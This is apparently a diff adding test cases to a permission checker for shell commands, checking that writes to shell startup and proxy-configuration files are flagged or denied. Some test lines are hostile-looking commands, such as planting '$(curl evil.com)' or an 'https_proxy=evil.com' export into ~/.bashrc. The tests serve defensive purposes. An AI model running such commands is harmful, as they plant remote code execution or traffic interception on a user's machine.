@@ -256,3 +256,25 @@ describe('routesTraffic: its last-segment test before the pattern drops no path 
       (path) => { expect(routesTraffic(path)).toBe(TRAFFIC_FILE.test(path)); }), { numRuns: 5000 });
   });
 });
+
+describe('more writers of traffic settings and startup files; git config --file= as the file it writes', () => {
+  lineTable(DENY_EVIL, [
+    ["git config -f ~/.bashrc a.b '$(curl evil.com)'", 'ask'],
+    ['git config --file=/home/dev/.curlrc a.b x', 'ask'],
+    ['echo x | sponge ~/.bashrc', 'ask'],
+    ['sort -o ~/.curlrc x', 'ask'],
+    ["vim -es -c 'norm Goexport https_proxy=evil.com' -c wq ~/.bashrc", 'ask'],
+    ['scp good.com:x ~/.npmrc', 'ask'],
+    ['git config --global http.proxy good.com', 'allow'],
+    ['git config --global user.name x', 'allow'],
+    ['git config -f .gitmodules submodule.x.url https://good.com/x', 'allow'],
+    ['sort -o out.txt x', 'allow'],
+    ['vim src/x.ts', 'allow'],
+  ]);
+  lineTable({ deny: ['Edit(//etc/**)'], allow: ['Shell(*)', 'Read(//**)', 'Edit(**)'] }, [
+    ['git config --file=/etc/gitconfig a.b c', 'deny'],
+    ['git config --fil=/etc/gitconfig a.b c', 'deny'],
+    ['git config -f/etc/gitconfig a.b c', 'deny'],
+    ['git config a.b c', 'allow'],
+  ]);
+});
